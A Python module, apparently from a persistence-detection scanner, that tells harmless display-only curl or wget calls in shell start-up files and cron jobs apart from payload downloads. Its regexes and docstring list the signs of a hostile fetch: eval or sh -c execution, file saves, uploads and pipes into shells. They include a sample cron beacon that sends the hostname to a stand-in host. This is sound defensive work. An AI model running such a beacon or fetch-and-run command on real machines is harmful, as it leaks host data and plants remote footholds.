"""Whether a download only shows what it fetched: no payload of a start-up file or a job.

Pure. "Add `curl -s wttr.in/Berlin` to my .zshrc so I see the weather" prints the weather
at every login; the persistence rules read any curl or wget in a start-up file, a cron job
or a service as the payload of a foothold. A fetch (``curl``, ``wget``, ``iwr``, ``irm``,
``Invoke-WebRequest``, ``Invoke-RestMethod``) is *shown* when its command

- is not run as code: not inside ``$(...)``, ``<(...)``, nor after ``eval``, ``source``,
  ``exec``, ``iex`` (``Invoke-Expression``) or ``sh -c``;
- saves nothing: no ``-o``/``-O``/``--output``/``--remote-name`` (wget's ``-O-``, to the
  terminal, and ``/dev/null`` are no file), no ``>`` other than ``> /dev/null``;
- uploads nothing: no ``-d``, ``--data...``, ``-F``/``--form``, ``-T``/``--upload-file``,
  ``--json``, ``--post-...``, ``--body-...``, ``-X POST|PUT|PATCH``, no ``@file``; a body
  written out in quotes (``-d 'site down'``, a notification's text, with no ``$``, ``@``
  or backquote in it) sends nothing of the machine's and is no upload;
- expands nothing into its request: no ``$(...)``, backquoted command, ``$NAME`` or
  ``${...}`` outside single quotes (``curl -s https://x.example/?h=$(hostname)`` in a cron
  job is a beacon: it sends what it expands to);
- and is piped, if at all, only into programs that display text (``jq``, ``head``,
  ``grep``, ``less``...), never into a shell, an interpreter, ``tee`` or ``xargs``.

``shown(text, at)`` says whether the position ``at`` lies inside such a command (its words,
its URL): the rules do not count a payload word there. Every other download is a payload as
before. Bounded: the command is read within ``_REACH`` characters of its line.
"""

from __future__ import annotations

import re

_REACH = 300

_FETCH = re.compile(r"(?<![\w.-])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)"
                    r"(?![\w-])", re.IGNORECASE)
_RUN_AS_CODE = re.compile(
    r"(?:\$\(|<\(|(?<![\w-])(?:eval|source|exec|iex|invoke-expression)\s*[\"'`(]*|"
    r"(?<![\w-])(?:ba|z|da|k)?sh\s+-c\s*[\"'`]?)\s*$", re.IGNORECASE)
_END = re.compile(r"\|\|?|&&?|;|`|\)|\n|>")
_DISPLAY = re.compile(
    r"\s*(?:jq|head|tail|grep|egrep|fgrep|less|more|column|cat|bat|lolcat|cut|sort|uniq|wc|"
    r"tr|fold|fmt|figlet|cowsay|select-object|out-host|format-table|format-list|"
    r"convertfrom-json)(?![\w-])", re.IGNORECASE)
_TO_NULL = re.compile(r">\s*/dev/null|>&[12]|>\s*\$null", re.IGNORECASE)
_NO_FILE = r"(?!-(?:\s|$)|/dev/null)"
_SINGLE_QUOTED = re.compile(r"'[^'\n]*'")
_EXPANDS = re.compile(r"\$[({A-Za-z_]")
# a backquoted command right after the request's last character (no space between): not
# the close of a markdown code span, which a space or the line's end follows
_BACKQUOTED = re.compile(r"(?<=\S)`[A-Za-z_][^`\n]*`")
_SAVES = re.compile(
    rf"(?<!\S)(?:-[a-z]*o(?=\s|$)(?!\s*-(?:\s|$)|\s*/dev/null)|"
    rf"--output(?:-document)?(?:\s+|=){_NO_FILE}|--remote-name\S*|-outfile)", re.IGNORECASE)
_UPLOADS = re.compile(
    r"(?<!\S)(?:-[a-z]*d(?=\s)|--data\S*|--form\S*|--upload-file|--json|--post-\S+|"
    r"--body-\S+|-[a-z]*t\s+(?!\d)|-[a-z]*f\s+\S*=|(?:-x|--request|-method)\s+[\"']?"
    r"(?:post|put|patch)\b|-infile|-body)|(?:^|[\s=])@\S", re.IGNORECASE)

# A body written out in the command ("curl -d 'site down' https://ntfy.sh/alerts"): a
# notification's text, which sends nothing of the machine's (no "$", "@" or backquote).
_LITERAL_BODY = re.compile(r"(?<!\S)(?:-d|--data(?:-raw|-ascii|-urlencode)?)(?:\s+|=)"
                           r"(?:'[^'\n$@`]{0,200}'|\"[^\"\n$@`]{0,200}\")(?!\S)")


def _command_end(text: str, start: int, limit: int) -> tuple[int, str]:
    """Where the command from ``start`` ends (before ``limit``) and the sign that ends it
    ("" at the end of the line)."""
    found = _END.search(text, start, limit)
    if found is None:
        return limit, ""
    return found.start(), found.group()


def _is_shown(text: str, fetch: re.Match[str], limit: int) -> tuple[bool, int]:
    """Whether the fetch ``fetch`` only shows what it fetched, and where its pipeline ends."""
    line_start = text.rfind("\n", max(0, fetch.start() - _REACH), fetch.start()) + 1
    if _RUN_AS_CODE.search(text[max(line_start, fetch.start() - 40):fetch.start()]):
        return False, fetch.end()
    end, sign = _command_end(text, fetch.end(), limit)
    command = text[fetch.end():end]
    if _EXPANDS.search(_SINGLE_QUOTED.sub("", command)) or \
            (sign == "`" and _BACKQUOTED.match(text, end)):
        return False, end  # the machine's data expanded into the request
    end, sign = _past_null_redirects(text, end, sign, limit)
    if sign == ">" or _SAVES.search(command) or _UPLOADS.search(
            _LITERAL_BODY.sub(" ", command)):
        return False, end  # saved to a file, or saving or uploading by option
    while sign == "|":
        display = _DISPLAY.match(text, end + 1)
        if display is None:
            return False, end  # piped into a shell, an interpreter, tee, xargs
        end, sign = _past_null_redirects(text, *_command_end(text, display.end(), limit),
                                         limit)
        if sign == ">":
            return False, end
    return True, end


def _past_null_redirects(text: str, end: int, sign: str, limit: int) -> tuple[int, str]:
    """Past every ``> /dev/null`` (or ``>&2``) from the command end ``end``: where the
    command then ends and its sign; the sign is ``>`` at a redirect into a file."""
    while sign == ">":
        null = _TO_NULL.match(text, end)
        if null is None:
            return end, sign
        end, sign = _command_end(text, null.end(), limit)
    return end, sign


def shown(text: str, at: int) -> bool:
    """Whether ``text[at]`` lies inside a download that only shows what it fetched (see the
    module docstring): a payload word there is no payload."""
    line_start = text.rfind("\n", max(0, at - _REACH), at) + 1 or max(0, at - _REACH)
    line_end = text.find("\n", at, at + _REACH)
    limit = line_end if line_end >= 0 else min(len(text), at + _REACH)
    last = None
    for fetch in _FETCH.finditer(text, line_start, min(limit, at + 20)):
        if fetch.start() > at:
            break
        last = fetch
    if last is None:
        return False
    ok, end = _is_shown(text, last, limit)
    return ok and at <= end
